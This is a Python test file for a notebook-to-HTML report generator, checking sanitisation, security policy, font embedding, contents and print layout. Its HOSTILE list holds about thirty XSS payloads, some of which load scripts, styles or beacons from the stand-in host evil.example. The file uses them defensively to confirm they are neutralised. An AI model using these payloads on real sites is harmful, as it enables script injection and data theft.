"""A report is one file: readable, self-contained, and harmless whatever the data says."""

from __future__ import annotations

import base64
import io
import re
from pathlib import Path

import nbformat
import pytest
from bs4 import BeautifulSoup
from fontTools.ttLib import TTFont
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

import needs
from stockcust.report.fonts import embedded_font
from stockcust.report.html import report_html
from stockcust.report.paging import ROWS_TOGETHER, TOGETHER

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/beacon.gif'>",
    "<img src='data:text/html;base64,PHNjcmlwdD4='>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://evil.example'>x</a>",
    "<a href='\\\\evil.example\\share'>x</a>",
    "<iframe src='//evil.example'></iframe>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>body{background:url(http://evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<form action='//evil.example'><input name=a><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<object data='//evil.example'></object><embed src='//evil.example'>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>x</details>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<?xml version='1.0'?><script>alert(1)</script>",
]


def display(**data: str) -> nbformat.NotebookNode:
    return new_output("display_data", data={k.replace("_", "/"): v for k, v in data.items()})


def code(*outputs: nbformat.NotebookNode, **metadata: object) -> nbformat.NotebookNode:
    return new_code_cell("secret_code = 42", outputs=list(outputs), metadata=metadata)


def page_of(*cells: nbformat.NotebookNode, lang: str = "zh", **options: str) -> BeautifulSoup:
    html = report_html(new_notebook(cells=list(cells)), title="城东支行", lang=lang, **options)
    return BeautifulSoup(html, "html.parser")


def assert_harmless(page: BeautifulSoup) -> None:
    """Nothing runs, loads, submits or leads outside."""
    assert not page.find_all(["script", "iframe", "object", "embed", "form", "base", "link", "svg"])
    for tag in page.find_all(True):
        for name, value in tag.attrs.items():
            assert not name.startswith("on")
            if name == "src":
                assert value.startswith("data:image/")
            if name == "href":
                assert re.match(r"#|[^:/\\]", value), value
                assert ":" not in value
    styles = [tag.string or "" for tag in page.find_all("style")]
    styles += [tag["style"] for tag in page.select("[style]")]
    addresses = re.findall(r"url\(([^)]*)\)", " ".join(styles))
    assert all(address.startswith('"data:font/woff;base64,') for address in addresses)
    assert not re.search(r"(?i)@import|expression\(", " ".join(styles))
    assert not page.find_all(string=lambda text: type(text).__name__ == "Comment")


@pytest.fixture
def same_font(monkeypatch: pytest.MonkeyPatch) -> None:
    """Spares making a font for each of many pages."""
    font = embedded_font(frozenset())
    monkeypatch.setattr("stockcust.report.html.embedded_font", lambda _: font)


@pytest.mark.usefixtures("same_font")
@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("way", ["html", "markdown", "prose", "printed", "plain"])
def test_hostile_text_from_the_data_is_harmless_whichever_way_it_comes(text, way):
    cell = {
        "html": lambda: code(display(text_html=f"<table><tr><td>{text}</td></tr></table>")),
        "markdown": lambda: code(display(text_markdown=f"客户 {text} 好")),
        "prose": lambda: new_markdown_cell(text),
        "printed": lambda: code(new_output("stream", name="stdout", text=text)),
        "plain": lambda: code(display(text_plain=text)),
    }[way]()
    page = page_of(cell, new_markdown_cell("## 其后"))
    assert_harmless(page)
    assert page.main.find("h2").get_text() == "其后"


@pytest.mark.usefixtures("same_font")
@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_titles_and_footers_are_only_text(text):
    html = report_html(new_notebook(), title=text, lang="zh", footer=text)
    page = BeautifulSoup(html, "html.parser")
    assert_harmless(page)
    assert page.title.get_text() == text
    assert page.footer.get_text() == text


def test_what_is_printed_is_shown_as_it_is():
    page = page_of(code(new_output("stream", name="stdout", text="<b>1 < 2</b>")))
    assert page.main.pre.get_text() == "<b>1 < 2</b>"


def test_tables_pictures_and_their_own_styles_stay():
    table = (
        '<style>#t-base td{color:red}</style><table id="t-base" class="gt_table"><thead><tr>'
        '<th scope="col" colspan="2" style="text-align: right">户数</th></tr></thead></table>'
    )
    page = page_of(code(display(text_html=table), display(image_png=PIXEL)))
    assert "#t-base td{color:red}" in page.main.style.string
    assert page.main.th.attrs == {"scope": "col", "colspan": "2", "style": "text-align: right"}
    assert page.main.img["src"] == f"data:image/png;base64,{PIXEL}"


def test_no_code_no_prompts_no_warnings_and_no_notes_for_analysts_are_shown():
    page = page_of(
        code(new_output("execute_result", data={"text/plain": "seen"}, execution_count=1)),
        code(new_output("stream", name="stderr", text="FutureWarning")),
        new_markdown_cell("for analysts", metadata={"tags": ["notebook-only"]}),
        code(display(text_plain="a widget"), tags=["notebook-only"]),
    )
    text = page.get_text()
    assert "seen" in text
    assert not re.search(r"secret_code|In\s*\[|Out\s*\[|FutureWarning|for analysts|a widget", text)


def test_the_contents_link_to_every_heading_however_it_was_made():
    page = page_of(
        new_markdown_cell("# 报告\n\n## 一、概况\n\n### 1.1 户数"),
        code(display(text_markdown="## 二、质量 & 口径"), display(text_html="<h2 id='x'>三</h2>")),
    )
    entries = page.nav.find_all("a")
    assert [entry.get_text() for entry in entries] == [
        "一、概况",
        "1.1 户数",
        "二、质量 & 口径",
        "三",
    ]
    targets = [page.find(id=entry["href"].removeprefix("#")) for entry in entries]
    assert [t.get_text() for t in targets] == [e.get_text() for e in entries]
    assert [t.name for t in targets] == ["h2", "h3", "h2", "h2"]


def test_a_page_without_headings_has_no_contents():
    assert page_of(new_markdown_cell("# 只有标题")).nav is None


def test_pictures_are_described_by_themselves_or_by_their_heading():
    own = new_output(
        "display_data",
        data={"image/png": PIXEL},
        metadata={"image/png": {"alt": "九宫格:G1 最多"}},
    )
    page = page_of(
        new_markdown_cell("## 客户结构"),
        code(own),
        code(display(image_png=PIXEL)),
        code(display(image_png=PIXEL), alt="按单元格"),
    )
    alts = [image["alt"] for image in page.find_all("img")]
    assert alts == ["九宫格:G1 最多", "客户结构", "按单元格"]


@pytest.mark.parametrize(("lang", "code_"), [("zh", "zh-CN"), ("en", "en")])
def test_the_page_says_its_language(lang, code_):
    assert page_of(lang=lang).html["lang"] == code_


def test_the_policy_forbids_all_but_inline_styles_and_embedded_images_and_fonts():
    policy = page_of().find("meta", {"http-equiv": "Content-Security-Policy"})["content"]
    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
    assert rules == {
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "data:",
        "font-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
    }


def embedded_characters(page: BeautifulSoup) -> set[str]:
    data = re.search(r"data:font/woff;base64,([A-Za-z0-9+/=]+)", page.head.style.string)[1]
    font = TTFont(io.BytesIO(base64.b64decode(data)))
    return set(map(chr, font.getBestCmap()))


def test_the_font_inside_has_every_character_of_the_page_and_few_more():
    page = page_of(new_markdown_cell("## 存量客户「经营」¥1,234 × 2 − 1"), footer="龘")
    has = embedded_characters(page)
    needed = set(page.body.get_text() + page.title.get_text()) - {"\n"}
    assert needed <= has
    assert len(has) < 250
    assert len(str(page)) < 60_000


def test_the_same_notebook_gives_the_same_bytes():
    cells = [new_markdown_cell("## 一"), code(display(image_png=PIXEL))]
    first, second = (report_html(new_notebook(cells=cells), title="t", lang="zh") for _ in "ab")
    assert first == second


def test_the_notebook_is_left_as_it_was():
    notebook = new_notebook(cells=[code(new_output("stream", name="stderr", text="w"))])
    before = nbformat.writes(notebook)
    report_html(notebook, title="t", lang="zh")
    assert nbformat.writes(notebook) == before


def test_on_paper_pages_are_numbered_and_pictures_kept_whole():
    css = page_of().head.style.string
    assert "@page{size:A4" in css
    assert "counter(page)" in css
    assert "break-inside:avoid" in css


def cards(*n_rows: int) -> str:
    """A table of groups with so many rows each, as great_tables writes it."""
    groups = [
        f'<tr class="gt_group_heading_row"><th>G{place}</th></tr>'
        + "".join(f"<tr><td>{place}.{row}</td></tr>" for row in range(n))
        for place, n in enumerate(n_rows)
    ]
    head = '<thead><tr class="gt_heading"><td>t</td></tr></thead>'
    return f'<table class="gt_table">{head}<tbody class="gt_table_body">{"".join(groups)}</tbody></table>'


def test_on_paper_a_card_stands_with_its_heading_on_one_page_unless_it_is_long():
    table = page_of(code(display(text_html=cards(2, ROWS_TOGETHER, 8), text_plain=""))).table
    bodies = table.find_all("tbody")
    texts = [[row.get_text() for row in body.find_all("tr")] for body in bodies]
    assert [(rows[0], len(rows)) for rows in texts] == [("G0", 3), ("G1", 10), ("G2", 9)]
    assert texts[0] == ["G0", "0.0", "0.1"]
    assert [TOGETHER in body["class"] for body in bodies] == [True, False, True]
    assert TOGETHER not in table["class"]


@pytest.mark.parametrize(("n_rows", "is_together"), [(ROWS_TOGETHER, True), (99, False)])
def test_on_paper_a_short_table_stands_on_one_page(n_rows, is_together):
    rows = "<tr><td>1</td></tr>" * n_rows
    table = page_of(code(display(text_html=f"<table>{rows}</table>", text_plain=""))).table
    assert (TOGETHER in table.get("class", [])) is is_together


@needs.chromium
@pytest.mark.browser
@pytest.mark.parametrize("width", [390, 1280])
def test_in_a_browser_nothing_is_wider_than_the_screen_and_the_policy_blocks_nothing(
    tmp_path: Path, width: int
):
    from playwright.sync_api import sync_playwright

    wide = "<table><tr>" + "".join(f"<td>第{n}列标题</td>" for n in range(40)) + "</tr></table>"
    html = report_html(
        new_notebook(
            cells=[
                new_markdown_cell("# 报告\n\n## 一"),
                code(display(text_html=wide, text_plain="")),
            ]
        ),
        title="t",
        lang="zh",
    )
    (tmp_path / "report.html").write_text(html, encoding="utf-8")
    said: list[str] = []
    with sync_playwright() as play:
        browser = play.chromium.launch(executable_path=needs.CHROMIUM, args=["--no-sandbox"])
        page = browser.new_page(viewport={"width": width, "height": 800})
        page.on("console", lambda message: said.append(message.text))
        page.goto((tmp_path / "report.html").as_uri())
        assert page.evaluate("document.documentElement.scrollWidth") <= width
        assert page.evaluate("document.fonts.check('16px \"Noto Sans SC\"', '报告')")
        browser.close()
    assert said == []
